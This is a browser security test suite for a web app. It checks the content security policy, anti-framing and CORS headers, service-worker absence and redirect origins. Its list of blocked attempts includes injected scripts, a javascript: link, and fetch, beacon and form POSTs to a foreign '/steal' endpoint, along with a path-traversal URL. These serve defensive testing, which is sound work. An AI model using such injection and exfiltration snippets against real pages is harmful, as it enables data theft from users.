/** What the pages are allowed, seen from Chromium and from the line: nothing inline, nothing of others, nothing framed. */
import { createServer } from "node:http";
import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { inRoot } from "../../scripts/setup/paths.mjs";
import { launchBrowser, newProfile, settled } from "../support/browser.mjs";
import { startSite } from "../support/browser-site.mjs";
import { Wiretap } from "../support/browser-wiretap.mjs";
import { App } from "../support/browser-app.mjs";
import { ask } from "../support/api.mjs";
import { Device } from "../support/device.mjs";
import { accountProof } from "../support/proof.mjs";
import { startServer } from "../support/server.mjs";

const ID = "0123456789abcdef0123456789abcdef";
const PAGES = [
  "/",
  "/register",
  "/sign-in",
  "/recover",
  "/identity/new",
  `/identity/${ID}`,
  "/apps",
  "/apps/new",
  `/apps/${ID}`,
  "/approvals",
  `/approve/${ID}${ID}`,
  "/activity",
  "/security",
];
/** Addresses that are none; a person gets a page for them all the same. */
const NO_PAGES = ["/nothing", "/nothing/deeper", "/index.html", "/%2e%2e/secrets", "/sw.js"];
const FILES = ["/favicon.svg", "/manifest.webmanifest"];

/** Everything that a page may do. */
const POLICY = {
  "default-src": "'none'",
  "script-src": "'self' 'wasm-unsafe-eval'",
  "style-src": "'self'",
  "img-src": "'self'",
  "font-src": "'self'",
  "connect-src": "'self'",
  "worker-src": "'self'",
  "manifest-src": "'self'",
  "base-uri": "'none'",
  "form-action": "'none'",
  "frame-ancestors": "'none'",
};
const HEADERS = {
  "x-content-type-options": "nosniff",
  "x-frame-options": "DENY",
  "referrer-policy": "no-referrer",
  "cross-origin-opener-policy": "same-origin",
  "cross-origin-resource-policy": "same-origin",
};
const API = [
  ["GET", "/openapi.json"],
  ["GET", "/holders"],
  ["GET", "/keys"],
  ["GET", "/account"],
  ["POST", "/auth/params"],
  ["POST", "/auth/token"],
  ["POST", "/auth/refresh"],
  ["GET", `/keys/${ID}/requests`],
  ["GET", "/healthz"],
  ["GET", "/nothing"],
];
/** Bytes, gzipped, of scripts and styles before any WASM. */
const FIRST_PAGE_LIMIT = 150_000;

let site, browser, foreign;

beforeAll(async () => {
  site = await startSite();
  browser = await launchBrowser();
  foreign = await openForeignSite();
});
afterAll(async () => {
  await browser?.close();
  foreign?.server.close();
  await site?.stop();
});

const asPerson = (path, headers = {}) => fetch(site.url + path, { headers: { accept: "text/html,*/*;q=0.8", ...headers }, redirect: "manual" });

describe("attack 30: the policy of the pages", () => {
  test.each([...PAGES, ...NO_PAGES])("of %s is the strict one, to the word", async (path) => {
    const answer = await asPerson(path);
    expect(answer.status).toBe(NO_PAGES.includes(path) ? 404 : 200);
    expect(answer.headers.get("content-type")).toMatch(/^text\/html/);
    expect(policyOf(answer)).toEqual(POLICY);
    expect(answer.headers.get("cache-control")).toBe("no-cache");
    expectGuarded(answer);
  });

  test("of every file is the same, and no file is taken for another type", async () => {
    const built = readdirSync(inRoot("public", "dist", "assets")).map((name) => `/assets/${name}`);
    expect(built.length).toBeGreaterThan(2);
    const types = { js: /^text\/javascript|^application\/javascript/, css: /^text\/css/, wasm: /^application\/wasm/, svg: /^image\/svg\+xml/ };
    for (const path of [...FILES, ...built]) {
      const answer = await asPerson(path);
      expect([path, answer.status]).toEqual([path, 200]);
      expect(policyOf(answer)).toEqual(POLICY);
      expectGuarded(answer);
      const type = types[path.split(".").at(-1)];
      if (type) expect(answer.headers.get("content-type"), path).toMatch(type);
    }
  });

  test("loosens nothing by a second header, a report-only one or the page's own meta", async () => {
    const answer = await asPerson("/");
    expect(answer.headers.get("content-security-policy")).not.toContain(",");
    expect(answer.headers.get("content-security-policy-report-only")).toBeNull();
    expect(await answer.text()).not.toMatch(/http-equiv/i);
  });

  test("pins browsers to https in production, on pages as on the API", async () => {
    const production = {
      ENVIRONMENT: "production",
      PUBLIC_URL: "https://bunker.passport-e2e.dev",
      EXPORT_DELAY: "86400",
      DANGER_ALLOW_HSM_SIMULATOR_IN_PRODUCTION: "the-keks-are-plain-worker-secrets",
    };
    const server = await startServer({ vars: production });
    try {
      for (const path of ["/", "/approvals", "/favicon.svg", "/healthz", "/keys"]) {
        const answer = await fetch(server.url + path);
        expect([path, answer.status]).not.toEqual([path, 503]);
        expect([path, answer.headers.get("strict-transport-security")]).toEqual([path, expect.stringMatching(/^max-age=(?!0)\d{8,}; includeSubDomains/)]);
        if (path === "/") expect(policyOf(answer)).toEqual(POLICY);
      }
    } finally {
      await server.stop();
    }
  });
});

describe("attack 30: the document", () => {
  test("has no inline script, style or handler, and names no other origin", async () => {
    const html = await (await asPerson("/")).text();
    expect(html).not.toMatch(/<style|\sstyle\s*=|\son\w+\s*=|javascript:|<base|<iframe|<object|<embed/i);
    for (const [, attributes, inside] of html.matchAll(/<script([^>]*)>([^]*?)<\/script>/gi)) {
      expect(inside.trim()).toBe("");
      expect(attributes).toMatch(/\ssrc="\/assets\/[\w.-]+\.js"/);
    }
    for (const [, to] of html.matchAll(/\s(?:src|href)\s*=\s*"([^"]*)"/gi)) expect(to).toMatch(/^\/(?!\/)/);
    expect(html).not.toMatch(/https?:/i);
  });

  test("is the same at every page's address", async () => {
    const first = await (await asPerson("/")).text();
    for (const path of PAGES) expect(await (await asPerson(path)).text()).toBe(first);
  });

  test("is asked for again each time; only files named by their content are kept", async () => {
    const [style] = readdirSync(inRoot("public", "dist", "assets")).filter((name) => name.endsWith(".css"));
    expect((await asPerson(`/assets/${style}`)).headers.get("cache-control")).toMatch(/immutable/);
    for (const path of [...PAGES, ...FILES]) expect((await asPerson(path)).headers.get("cache-control")).toBe("no-cache");
  });
});

describe("attack 30: in Chromium", () => {
  test("no page, signed out, breaks its policy, asks another origin or complains", async () => {
    await withPage(async (page, wiretap) => {
      for (const path of [...PAGES, "/nothing"]) {
        await page.goto(site.url + path);
        await page.getByRole("heading", { level: 1 }).waitFor();
        await settled(page);
      }
      expect(wiretap.foreignTo(site.url)).toEqual([]);
      expect(wiretap.troubles([/^404 GET \/nothing/])).toEqual([]);
    });
  });

  /** What injected markup or a compromised dependency would try; each must be stopped by the rule named. */
  const TRIES = [
    ["an inline script", "script-src", () => append("script", { textContent: "globalThis.broken = true" })],
    ["a script of another origin", "script-src", (url) => append("script", { src: `${url}/evil.js` })],
    ["a script in a data: address", "script-src", () => append("script", { src: "data:text/javascript,globalThis.broken=true" })],
    ["an inline handler", "script-src", () => { const it = append("button", {}); it.setAttribute("onclick", "globalThis.broken = true"); it.click(); }],
    ["eval", "script-src", () => void setTimeout("globalThis.broken = true")],
    ["a javascript: address", "script-src", () => append("a", { href: "javascript:void(globalThis.broken = true)" }).click()],
    ["an inline style", "style-src", () => append("style", { textContent: "* { display: none }" })],
    ["a style attribute", "style-src", () => append("p", {}).setAttribute("style", "display: none")],
    ["an image of another origin", "img-src", (url) => append("img", { src: `${url}/pixel.png` })],
    ["an image in a data: address", "img-src", () => append("img", { src: "data:image/gif;base64,R0lGODlhAQABAAAAACw=" })],
    ["a request to another origin", "connect-src", (url) => void fetch(`${url}/steal`, { method: "POST", body: "x", mode: "no-cors" }).catch(() => 0)],
    ["a WebSocket to another origin", "connect-src", (url) => void new WebSocket(url.replace("http", "ws"))],
    ["a beacon to another origin", "connect-src", (url) => void navigator.sendBeacon(`${url}/steal`, "x")],
    ["a worker from a blob", "worker-src", () => void new Worker(URL.createObjectURL(new Blob(["1"])))],
    ["a frame", "frame-src", () => append("iframe", { src: "/" })],
    ["a plug-in", "object-src", () => append("object", { data: "/favicon.svg" })],
    ["another base address", "base-uri", (url) => append("base", { href: url })],
    ["a form to another origin", "form-action", (url) => append("form", { method: "post", action: `${url}/steal` }).submit()],
  ];
  test.each(TRIES)("%s is stopped", async (_, rule, attempt) => {
    await withPage(async (page) => {
      await page.goto(`${site.url}/sign-in`);
      await page.getByRole("heading", { level: 1 }).waitFor();
      foreign.asked.length = 0;
      const stoppedBy = await page.evaluate(
        ([code, url]) =>
          new Promise((resolve) => {
            globalThis.append = (name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields));
            document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
            try {
              // Known code, put in over the debugger, which the page's policy does not concern.
              globalThis.eval(`(${code})`)(url);
            } catch {
              // Some are thrown as well.
            }
            setTimeout(() => resolve("nothing"), 3_000);
          }),
        [attempt.toString(), foreign.url],
      );
      expect(stoppedBy.replace(/-(elem|attr)$/, "")).toBe(rule);
      expect(await page.evaluate(() => globalThis.broken)).toBeUndefined();
      expect(foreign.asked).toEqual([]);
    });
  });

  test.each(["/", "/sign-in", `/approve/${ID}${ID}`, "/openapi.json"])("%s shows in nobody's frame", async (path) => {
    await withPage(async (page) => {
      for (const element of ["iframe", "object", "embed"]) {
        await page.goto(`${foreign.url}/frame?${new URLSearchParams({ element, to: site.url + path })}`);
        await page.waitForTimeout(400);
        const shown = await Promise.all(page.frames().slice(1).map((frame) => frame.evaluate(() => document.body?.innerText ?? "").catch(() => "")));
        expect(page.frames().slice(1).filter((frame) => frame.url().startsWith(site.url))).toEqual([]);
        expect(shown.join("")).not.toMatch(/passport|openapi|sign in/i);
      }
    });
  });

  test("a page that opens ours keeps no hand on it", async () => {
    await withPage(async (page) => {
      await page.goto(foreign.url);
      const popup = page.waitForEvent("popup");
      await page.evaluate((url) => void (globalThis.opened = open(url)), `${site.url}/sign-in`);
      const opened = await popup;
      await opened.getByRole("heading", { level: 1 }).waitFor();
      expect(await page.evaluate(() => globalThis.opened.closed)).toBe(true);
      expect(await opened.evaluate(() => globalThis.opener)).toBeNull();
    });
  });

  test.each(API)("another origin reads nothing of %s %s, with credentials or without", async (method, path) => {
    await withPage(async (page) => {
      await page.goto(foreign.url);
      for (const init of [{}, { credentials: "include" }, { mode: "no-cors" }, { headers: { authorization: "Bearer x" } }]) {
        const got = await page.evaluate(
          ([url, options]) => fetch(url, options).then((answer) => answer.text(), () => "refused"),
          [site.url + path, { method, ...init }],
        );
        expect(got).toBe("refused");
      }
    });
  });

  test("no service worker is registered, and none is to be had", async () => {
    await withPage(async (page) => {
      for (const path of ["/", "/sign-in", "/register"]) await page.goto(site.url + path);
      await page.waitForTimeout(500);
      expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0);
      expect(await page.evaluate(() => navigator.serviceWorker.controller)).toBeNull();
    });
    const scripts = readdirSync(inRoot("public", "dist", "assets")).filter((name) => name.endsWith(".js"));
    for (const name of scripts) expect(readFileSync(join(inRoot("public", "dist", "assets"), name), "utf8")).not.toContain("serviceWorker");
    for (const path of ["/sw.js", "/service-worker.js", "/worker.js", "/serviceworker.js"]) {
      const answer = await fetch(site.url + path, { headers: { accept: "*/*", "service-worker": "script" } });
      expect([path, answer.status]).toEqual([path, 404]);
    }
  });
});

describe("attack 30: CORS is closed", () => {
  const ORIGINS = ["https://evil.example", "null", "http://localhost:1", "http://127.0.0.1:1"];

  test.each([...API, ["GET", "/"], ["GET", "/assets/x.js"]])("on %s %s, for an answer and for a preflight", async (method, path) => {
    for (const origin of ORIGINS) {
      const answer = await fetch(site.url + path, { method, headers: { origin, cookie: "a=b", authorization: "Bearer x" } });
      expect(corsOf(answer)).toEqual([]);
      const preflight = await fetch(site.url + path, {
        method: "OPTIONS",
        headers: { origin, "access-control-request-method": method, "access-control-request-headers": "authorization, content-type" },
      });
      expect(corsOf(preflight)).toEqual([]);
      expect(preflight.status).toBeGreaterThanOrEqual(400);
    }
  });
});

describe("attack 30: an app sends its user to https or to this machine, and nowhere else", () => {
  const ASK = { rules: [{ effect: "ask", methods: "all", kinds: "all", peers: "all", uses: null }] };
  const ADDRESSES = [
    ["https://bunker.passport-e2e.dev", "there"],
    ["http://localhost:8123", "there"],
    ["http://bunker.passport-e2e.dev", "nowhere"],
    ["http://localhost.passport-e2e.dev", "nowhere"],
  ];
  test.each(ADDRESSES)("by a server at %s it is sent %s", async (origin, sent) => {
    const server = await startServer({ vars: { PUBLIC_URL: origin } });
    let app;
    try {
      const owner = await deviceAt(server, origin);
      const key = await owner.makeKey();
      const granted = owner.grant(key.group, 2, { policy: ASK, auth_url: true });
      const { body } = await owner.ask("POST", `/keys/${key.group}/connections`, { json: granted.body });
      const relay = new URL(new URL(body.bunker_url).searchParams.get("relay"));
      const here = `${server.url.replace("http", "ws")}${relay.pathname}`;
      app = await App.connect(`bunker://${new URL(body.bunker_url).host}?${new URLSearchParams({ relay: here, secret: granted.secret })}`);
      app.sign({ content: "a question" });
      const { requests } = await until(async () => (await owner.ask("GET", `/keys/${key.group}/requests`)).body, (it) => it.requests.length === 1);
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      expect(app.opened).toEqual(sent === "there" ? [`${origin}/approve/${requests[0].request}`] : []);
    } finally {
      await app?.close();
      await server.stop();
    }
  });

  /** An account on a server that is reached by another address than the one it says. */
  async function deviceAt(server, origin) {
    const owner = new Device(server);
    const { username, password, kdf } = owner;
    const body = { username, password, owner_pubkey: owner.owner, kdf };
    const proof = accountProof(owner.ownerSecret, { verb: "register", origin, body });
    expect((await ask(server, "POST", "/auth/register", { json: { ...body, proof } })).status).toBe(201);
    const { holders } = (await ask(server, "GET", "/holders")).body;
    return Object.assign(owner, { token: (await owner.signIn()).body.access_token, receivingKeys: holders.map((it) => it.receiving_key) });
  }
});

test(`the first page needs under ${FIRST_PAGE_LIMIT / 1000} KB of scripts and styles, gzipped, before any WASM`, async () => {
  await withPage(async (page) => {
    const loaded = [];
    page.context().on("response", (response) => loaded.push(response));
    await page.goto(`${site.url}/`, { waitUntil: "networkidle" });
    await page.getByRole("heading", { level: 1 }).waitFor();
    const sizes = {};
    for (const response of loaded) {
      const path = new URL(response.url()).pathname;
      expect(path).not.toMatch(/\.wasm$/);
      if (/\.(js|css)$/.test(path)) sizes[path] = gzipSync(await response.body(), { level: 9 }).length;
    }
    const sum = Object.values(sizes).reduce((total, bytes) => total + bytes, 0);
    console.log(`first page: ${(sum / 1000).toFixed(1)} KB of scripts and styles, gzipped, in ${Object.keys(sizes).length} files`);
    expect(Object.keys(sizes).length).toBeGreaterThan(1);
    expect(sum).toBeLessThan(FIRST_PAGE_LIMIT);
  });
});

/** A page in an empty profile, listened to. */
async function withPage(act) {
  const profile = await newProfile(browser);
  try {
    const wiretap = Wiretap.on(profile, site.tap);
    await act(await profile.newPage(), wiretap);
  } finally {
    await profile.close();
  }
}

/** Somebody else's site, which frames what it is told to and keeps what it is asked. */
async function openForeignSite() {
  const asked = [];
  const server = createServer((request, response) => {
    const { pathname, searchParams } = new URL(request.url, "http://x");
    if (pathname !== "/" && pathname !== "/frame" && pathname !== "/favicon.ico") asked.push(`${request.method} ${request.url}`);
    const [element, to] = [searchParams.get("element"), searchParams.get("to")];
    const frame = { iframe: `<iframe src="${to}"></iframe>`, object: `<object data="${to}"></object>`, embed: `<embed src="${to}">` };
    response.setHeader("content-type", "text/html").end(`<!doctype html><title>Elsewhere</title>${frame[element] ?? ""}`);
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, asked, url: `http://127.0.0.1:${server.address().port}` };
}

/** What `read` gives, as soon as it is as wanted. */
async function until(read, wanted) {
  for (let tries = 0; tries < 50; tries += 1) {
    const it = await read();
    if (wanted(it)) return it;
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  throw new Error("it did not come to that");
}

function policyOf(answer) {
  const rules = answer.headers.get("content-security-policy").split(";").map((rule) => rule.trim()).filter(Boolean);
  return Object.fromEntries(rules.map((rule) => [rule.split(/\s+/, 1)[0], rule.split(/\s+/).slice(1).join(" ")]));
}

function expectGuarded(answer) {
  expect(Object.fromEntries(Object.keys(HEADERS).map((name) => [name, answer.headers.get(name)]))).toEqual(HEADERS);
  expect(answer.headers.get("permissions-policy")).toMatch(/camera=\(\)/);
  expect(answer.headers.get("set-cookie")).toBeNull();
  expect(corsOf(answer)).toEqual([]);
}

const corsOf = (answer) => [...answer.headers.keys()].filter((name) => name.startsWith("access-control-"));
